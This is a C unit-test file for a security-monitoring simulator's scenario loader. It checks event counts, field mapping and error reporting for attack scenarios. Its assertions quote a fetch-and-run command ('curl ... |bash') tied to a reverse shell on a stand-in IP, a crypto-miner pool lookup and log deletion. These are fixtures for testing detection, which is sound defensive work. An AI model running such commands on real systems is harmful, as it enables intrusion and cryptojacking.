/* Unit tests of agentsim's scenario loader: every shared scenario loads with
 * the right counts, fields land in the right proto fields, and bad lines are
 * reported as "<file>:<line>: <reason>". */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "eventjson.h"
#include "scenario.h"

static const char *shared_dir(void)
{
    const char *d = getenv("CW_SHARED");
    return d ? d : "../shared";
}

static void load_shared(const char *file, sim_scenario *s)
{
    char path[1024], err[512];
    snprintf(path, sizeof path, "%s/scenarios/%s", shared_dir(), file);
    int rc = sim_scenario_load(path, s, err, sizeof err);
    if (rc) fail_msg("%s", err);
}

static size_t count(const sim_scenario *s, int payload_case)
{
    return s->n_by_type[payload_case - SIM_EV_FIRST];
}

/* The item of `s` that came from line `line`. */
static const sim_item *at_line(const sim_scenario *s, int line)
{
    for (size_t i = 0; i < s->n_items; i++)
        if (s->items[i].line == line) return &s->items[i];
    fail_msg("no item at line %d", line);
    return NULL;
}

static void every_shared_scenario_loads(void **state)
{
    (void)state;
    char dir[1024];
    snprintf(dir, sizeof dir, "%s/scenarios", shared_dir());
    DIR *d = opendir(dir);
    assert_non_null(d);
    int files = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        size_t n = strlen(e->d_name);
        if (n < 6 || strcmp(e->d_name + n - 6, ".jsonl") != 0) continue;
        sim_scenario s;
        load_shared(e->d_name, &s);
        size_t sum = 0;
        for (int i = 0; i < SIM_EV_COUNT; i++) sum += s.n_by_type[i];
        assert_int_equal(sum, s.n_events);
        assert_int_equal(s.n_items, s.n_hosts + s.n_events + s.n_audit);
        assert_true(s.n_expect > 0);
        for (size_t i = 1; i < s.n_items; i++) assert_true(s.items[i].t >= s.items[i - 1].t);
        sim_scenario_free(&s);
        files++;
    }
    closedir(d);
    assert_true(files >= 4);
}

static void counts_per_type_and_hosts(void **state)
{
    (void)state;
    sim_scenario s;
    load_shared("anonymous-apiserver-to-miner-worm.jsonl", &s);
    assert_int_equal(s.n_hosts, 2);
    assert_string_equal(s.hosts[0].name, "node-a");
    assert_string_equal(s.hosts[1].name, "node-b");
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_CONTAINER_START), 4);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC), 38);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_NET_CONNECT), 19);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_DNS_QUERY), 1);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_FILE_OP), 3);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_LOGIN), 1);
    assert_int_equal(s.n_events, 66);
    assert_int_equal(s.n_audit, 3);
    assert_int_equal(s.n_expect, 2);
    sim_scenario_free(&s);

    load_shared("benign-busy-cluster.jsonl", &s);
    assert_int_equal(s.n_hosts, 3);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC), 82);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_NET_CONNECT), 40);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_CONTAINER_START), 3);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_LOGIN), 1);
    assert_int_equal(s.n_events, 126);
    assert_int_equal(s.n_audit, 3);
    sim_scenario_free(&s);

    load_shared("ssh-bruteforce-cron-miner.jsonl", &s);
    assert_int_equal(s.n_hosts, 1);
    assert_string_equal(s.hosts[0].name, "vm-billing-01");
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_LOGIN), 64);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC), 5);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_NET_CONNECT), 2);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_FILE_OP), 1);
    assert_int_equal(s.n_events, 72);
    assert_int_equal(s.n_audit, 0);
    sim_scenario_free(&s);

    load_shared("web-rce-to-secrets.jsonl", &s);
    assert_int_equal(s.n_hosts, 2);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC), 34);
    assert_int_equal(count(&s, CHAINWATCH__V1__EVENT__PAYLOAD_NET_CONNECT), 16);
    assert_int_equal(s.n_events, 53);
    assert_int_equal(s.n_audit, 2);
    sim_scenario_free(&s);
}

static void fields_map_to_proto(void **state)
{
    (void)state;
    sim_scenario s;
    load_shared("web-rce-to-secrets.jsonl", &s);
    const sim_host *h = &s.hosts[0];
    assert_string_equal(h->name, "node-1");
    assert_string_equal(h->cloud, "tencent");
    assert_string_equal(h->region, "ap-shanghai");
    assert_string_equal(h->cluster, "prod-sh");
    assert_string_equal(h->ip, "10.2.0.21");
    assert_string_equal(h->os, "linux");
    assert_string_equal(h->kernel, "5.10.134-16.al8.x86_64");
    assert_string_equal(h->agent_version, "1.4.2");

    /* Line 12: a reverse shell, stdio on a socket. */
    const sim_item *it = at_line(&s, 12);
    assert_int_equal(it->kind, SIM_ITEM_EVENT);
    assert_true(it->t == 6.0);
    assert_string_equal(s.hosts[it->host].name, "node-1");
    assert_int_equal(it->event->payload_case, CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC);
    const Chainwatch__V1__ProcessExec *pe = it->event->process_exec;
    assert_true(pe->has_pid && pe->pid == 7003);
    assert_true(pe->has_ppid && pe->ppid == 7001);
    assert_string_equal(pe->exe, "/bin/bash");
    assert_int_equal(pe->n_argv, 2);
    assert_string_equal(pe->argv[1], "-i");
    assert_true(pe->has_uid && pe->uid == 1000);
    assert_string_equal(pe->user, "app");
    assert_string_equal(pe->container_id,
                        "ce379628ddd0e822821eb869c7e15fb204420182091cfdba8c55e4812e7c4f3c");
    assert_string_equal(pe->parent_exe, "/bin/sh");
    assert_int_equal(pe->n_parent_argv, 3);
    assert_string_equal(pe->parent_argv[2], "curl -s http://198.51.100.40/x.sh|bash");
    assert_true(pe->has_stdin && pe->stdin == CHAINWATCH__V1__STDIO_KIND__STDIO_SOCKET);
    assert_true(pe->has_stdout && pe->stdout == CHAINWATCH__V1__STDIO_KIND__STDIO_SOCKET);
    assert_string_equal(pe->stdio_peer, "198.51.100.40:4444");
    assert_false(pe->has_tty);
    assert_null(pe->cwd);
    assert_null(pe->sha256);

    /* The first net_connect (line 8). */
    it = at_line(&s, 8);
    const Chainwatch__V1__NetConnect *nc = it->event->net_connect;
    assert_non_null(nc);
    assert_int_equal(nc->pid, 900);
    assert_string_equal(nc->proto, "tcp");
    assert_string_equal(nc->direction, "out");
    assert_string_equal(nc->src_ip, "10.244.3.15");
    assert_true(nc->has_src_port && nc->src_port == 40000);
    assert_string_equal(nc->dst_ip, "10.96.12.7");
    assert_true(nc->has_dst_port && nc->dst_port == 5432);

    /* Line 4: a Kubernetes container with labels. */
    const Chainwatch__V1__ContainerStart *cs = at_line(&s, 4)->event->container_start;
    assert_non_null(cs);
    assert_string_equal(cs->name, "checkout");
    assert_string_equal(cs->image, "registry.corp/checkout:8.1");
    assert_string_equal(cs->pod_uid, "c6fbc29b-8c2c-5f9b-9ef5-b3ef06d7a27f");
    assert_string_equal(cs->pod, "checkout-6f7c9-abcde");
    assert_string_equal(cs->namespace_, "shop");
    assert_int_equal(cs->n_labels, 2);
    assert_string_equal(cs->labels[0]->key, "app");
    assert_string_equal(cs->labels[0]->value, "checkout");
    assert_true(cs->has_privileged && !cs->privileged);
    assert_false(cs->has_host_ipc);
    assert_string_equal(cs->started_by, "kubelet");
    assert_string_equal(cs->pod_ip, "10.244.3.15");
    assert_string_equal(cs->service_account, "checkout");
    sim_scenario_free(&s);

    load_shared("anonymous-apiserver-to-miner-worm.jsonl", &s);
    /* Line 18: a privileged docker run outside Kubernetes, with a host mount. */
    cs = at_line(&s, 18)->event->container_start;
    assert_non_null(cs);
    assert_string_equal(cs->started_by, "docker-cli");
    assert_null(cs->pod_uid);
    assert_null(cs->service_account);
    assert_int_equal(cs->n_labels, 0);
    assert_true(cs->has_privileged && cs->privileged);
    assert_true(cs->has_host_pid && cs->host_pid);
    assert_true(cs->has_host_network && cs->host_network);
    assert_int_equal(cs->n_caps_add, 0);
    assert_string_equal(cs->restart, "no");
    assert_int_equal(cs->n_mounts, 1);
    assert_string_equal(cs->mounts[0]->host_path, "/");
    assert_string_equal(cs->mounts[0]->container_path, "/host");
    assert_true(cs->mounts[0]->has_read_only && !cs->mounts[0]->read_only);
    assert_int_equal(cs->n_ports, 0);
    const Chainwatch__V1__DnsQuery *dq = at_line(&s, 23)->event->dns_query;
    assert_non_null(dq);
    assert_string_equal(dq->exe, "/usr/local/bin/xmrig");
    assert_string_equal(dq->query, "xmr-eu2.nanopool.org");
    assert_int_equal(dq->n_answers, 1);
    assert_string_equal(dq->answers[0], "198.51.100.77");
    const Chainwatch__V1__FileOp *fo = at_line(&s, 39)->event->file_op;
    assert_non_null(fo);
    assert_string_equal(fo->op, "delete");
    assert_string_equal(fo->path, "/var/log/auth.log");
    assert_null(fo->new_path);
    const Chainwatch__V1__Login *lg = at_line(&s, 47)->event->login;
    assert_non_null(lg);
    assert_string_equal(lg->user, "root");
    assert_string_equal(lg->src_ip, "10.0.1.11");
    assert_true(lg->has_src_port && lg->src_port == 51234);
    assert_string_equal(lg->service, "sshd");
    assert_string_equal(lg->method, "publickey");
    assert_true(lg->has_success && lg->success);
    assert_string_equal(lg->key_fingerprint, "SHA256:Qx1mIw4cd1Rr3bNq0yq2b8s2pQm1e7gJm3mD2N0hE4A");
    /* The first audit line keeps its cluster and the whole event. */
    for (size_t i = 0; i < s.n_items; i++) {
        if (s.items[i].kind != SIM_ITEM_AUDIT) continue;
        assert_string_equal(s.items[i].cluster, "prod-hz");
        assert_string_equal(json_string_value(json_object_get(s.items[i].audit, "auditID")),
                            "521d8008-03be-5179-9bf9-aa557649859b");
        assert_true(s.items[i].t == 3.0);
        break;
    }
    sim_scenario_free(&s);
}

/* Loads `text` as a file named "mem.jsonl"; returns the loader's result. */
static int load_text(const char *text, sim_scenario *s, char *err, size_t errlen)
{
    FILE *f = fmemopen((void *)text, strlen(text), "r");
    assert_non_null(f);
    int rc = sim_scenario_load_file(f, "mem.jsonl", s, err, errlen);
    fclose(f);
    return rc;
}

#define AGENT "{\"t\":0,\"type\":\"agent\",\"host\":\"h1\",\"cloud\":\"aws\",\"region\":\"r\"," \
              "\"cluster\":\"\",\"ip\":\"10.0.0.1\"}\n"
#define EXEC "{\"t\":1,\"type\":\"process_exec\",\"host\":\"h1\",\"pid\":5,\"ppid\":1," \
             "\"exe\":\"/bin/sh\",\"argv\":[\"sh\"],\"uid\":0"

static void comments_blank_lines_and_unknown_fields(void **state)
{
    (void)state;
    sim_scenario s;
    char err[256];
    const char *text = "# a comment\n\n   \n  # indented comment\n" AGENT EXEC
                       ",\"future_field\":{\"x\":[1,2]}}\n"
                       "{\"t\":2,\"type\":\"process_exit\",\"host\":\"h1\",\"pid\":5,"
                       "\"exit_code\":-1}\n"
                       "{\"type\":\"expect\",\"expect\":\"incident_count\",\"min\":0,\"max\":0}";
    int rc = load_text(text, &s, err, sizeof err);
    if (rc) fail_msg("%s", err);
    assert_int_equal(s.n_hosts, 1);
    assert_string_equal(s.hosts[0].cluster, "");
    assert_null(s.hosts[0].os);
    assert_int_equal(s.n_events, 2);
    assert_int_equal(s.n_expect, 1);
    assert_int_equal(s.items[1].line, 6);
    const Chainwatch__V1__ProcessExit *px = s.items[2].event->process_exit;
    assert_true(px->has_exit_code && px->exit_code == -1);
    sim_scenario_free(&s);
}

static void expect_error(const char *text, const char *want);

/* clock_skew (tests/scenarios/README.md): a line stamped by a wrong clock. */
static void clock_skew_is_per_line(void **state)
{
    (void)state;
    sim_scenario s;
    char err[256];
    const char *text = AGENT EXEC ",\"clock_skew\":259200.5}\n" EXEC ",\"clock_skew\":-60}\n" EXEC
                       "}\n";
    if (load_text(text, &s, err, sizeof err)) fail_msg("%s", err);
    assert_int_equal(s.n_items, 4);
    assert_true(s.items[0].clock_skew == 0);
    assert_true(s.items[1].clock_skew == 259200.5);
    assert_true(s.items[2].clock_skew == -60);
    assert_true(s.items[3].clock_skew == 0);
    sim_scenario_free(&s);
    expect_error(AGENT EXEC ",\"clock_skew\":\"3d\"}\n",
                 "mem.jsonl:2: field \"clock_skew\" must be a number of seconds within +-1e+09");
    expect_error(AGENT EXEC ",\"clock_skew\":2e9}\n",
                 "mem.jsonl:2: field \"clock_skew\" must be a number of seconds within +-1e+09");
}

static void expect_error(const char *text, const char *want)
{
    sim_scenario s;
    char err[256] = "";
    int rc = load_text(text, &s, err, sizeof err);
    if (rc != -1) fail_msg("accepted, wanted \"%s\"", want);
    /* A trailing '*' matches any rest: jansson words its own messages. */
    size_t n = strlen(want);
    int match = want[n - 1] == '*' ? strncmp(err, want, n - 1) == 0 : strcmp(err, want) == 0;
    if (!match) fail_msg("got \"%s\"\nwant \"%s\"", err, want);
}

static void bad_lines_name_file_and_line(void **state)
{
    (void)state;
    expect_error("# c\n{\"t\":0,\"type\":\"agent\"\n", "mem.jsonl:2: invalid JSON at column *");
    expect_error("[1]\n", "mem.jsonl:1: a line must be a JSON object");
    expect_error(AGENT "{\"t\":1}\n", "mem.jsonl:2: missing field \"type\" (a string)");
    expect_error(AGENT "{\"t\":1,\"type\":\"teleport\",\"host\":\"h1\"}\n",
                 "mem.jsonl:2: unknown type \"teleport\"");
    expect_error(AGENT "{\"t\":\"1\",\"type\":\"process_exit\",\"host\":\"h1\",\"pid\":1}\n",
                 "mem.jsonl:2: field \"t\" must be a number of seconds between 0 and 1e+09");
    expect_error("{\"t\":5,\"type\":\"agent\",\"host\":\"h0\",\"cloud\":\"a\",\"region\":\"r\","
                 "\"cluster\":\"c\",\"ip\":\"1.2.3.4\"}\n" AGENT,
                 "mem.jsonl:2: t goes backwards (0 after 5)");
    expect_error(AGENT AGENT, "mem.jsonl:2: second agent line for host \"h1\"");
    expect_error("{\"t\":0,\"type\":\"agent\",\"host\":\"h1\",\"cloud\":\"aws\",\"region\":\"r\","
                 "\"ip\":\"10.0.0.1\"}\n",
                 "mem.jsonl:1: missing field \"cluster\"");
    expect_error(EXEC "}\n", "mem.jsonl:1: host \"h1\" has no agent line before this one");
    expect_error(AGENT "{\"t\":1,\"type\":\"process_exec\",\"host\":\"h1\",\"pid\":5,"
                       "\"exe\":\"/bin/sh\",\"argv\":[\"sh\"],\"uid\":0}\n",
                 "mem.jsonl:2: process_exec: missing field \"ppid\"");
    expect_error(AGENT EXEC ",\"argv\":\"sh\"}\n", "mem.jsonl:2: invalid JSON at column *");
    expect_error(AGENT "{\"t\":1,\"type\":\"process_exec\",\"host\":\"h1\",\"pid\":5,\"ppid\":1,"
                       "\"exe\":\"/bin/sh\",\"argv\":[\"sh\",3],\"uid\":0}\n",
                 "mem.jsonl:2: process_exec: field \"argv\" must be a string");
    expect_error(AGENT EXEC ",\"stdin\":\"keyboard\"}\n",
                 "mem.jsonl:2: process_exec: field \"stdin\": unknown value \"keyboard\"");
    expect_error(AGENT "{\"t\":1,\"type\":\"process_exec\",\"host\":\"h1\",\"pid\":-5,\"ppid\":1,"
                       "\"exe\":\"/bin/sh\",\"argv\":[],\"uid\":0}\n",
                 "mem.jsonl:2: process_exec: field \"pid\" out of range (-5 not in 0..4294967295)");
    expect_error(AGENT "{\"t\":1,\"type\":\"net_listen\",\"host\":\"h1\",\"pid\":5,\"exe\":\"/x\","
                       "\"proto\":\"tcp\",\"ip\":\"0.0.0.0\",\"port\":70000}\n",
                 "mem.jsonl:2: net_listen: field \"port\" out of range (70000 not in 0..65535)");
    expect_error(AGENT "{\"t\":1,\"type\":\"file_op\",\"host\":\"h1\",\"pid\":5,\"exe\":\"/x\","
                       "\"op\":\"shred\",\"path\":\"/etc/passwd\"}\n",
                 "mem.jsonl:2: file_op: field \"op\": unknown value \"shred\"");
    expect_error(AGENT "{\"t\":1,\"type\":\"login\",\"host\":\"h1\",\"user\":\"root\","
                       "\"src_ip\":\"1.2.3.4\",\"service\":\"sshd\",\"method\":\"password\","
                       "\"success\":\"yes\"}\n",
                 "mem.jsonl:2: login: field \"success\" must be true or false");
    expect_error(AGENT "{\"t\":1,\"type\":\"container_start\",\"host\":\"h1\","
                       "\"container_id\":\"c1\",\"mounts\":[{\"host_path\":\"/\","
                       "\"read_only\":true}]}\n",
                 "mem.jsonl:2: container_start: missing field \"mounts[0].container_path\"");
    expect_error(AGENT "{\"t\":1,\"type\":\"container_start\",\"host\":\"h1\","
                       "\"container_id\":\"c1\",\"labels\":{\"app\":1}}\n",
                 "mem.jsonl:2: container_start: field \"labels\" must be a string");
    expect_error(AGENT "{\"t\":1,\"type\":\"k8s_audit\",\"cluster\":\"c\",\"event\":[]}\n",
                 "mem.jsonl:2: field \"event\" must be an audit Event object");
    expect_error(AGENT "{\"type\":\"expect\",\"expect\":\"incident_count\"}\n" EXEC "}\n",
                 "mem.jsonl:3: only expect lines may follow an expect line");
}

static void oversized_line_is_refused(void **state)
{
    (void)state;
    size_t n = SIM_SCENARIO_MAX_LINE + 10;
    char *text = malloc(n + 1);
    assert_non_null(text);
    memset(text, ' ', n);
    memcpy(text, "\n\n", 2);
    text[n] = 0;
    expect_error(text, "mem.jsonl:3: line longer than 4194304 bytes");
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_shared_scenario_loads),
        cmocka_unit_test(counts_per_type_and_hosts),
        cmocka_unit_test(fields_map_to_proto),
        cmocka_unit_test(comments_blank_lines_and_unknown_fields),
        cmocka_unit_test(clock_skew_is_per_line),
        cmocka_unit_test(bad_lines_name_file_and_line),
        cmocka_unit_test(oversized_line_is_refused),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
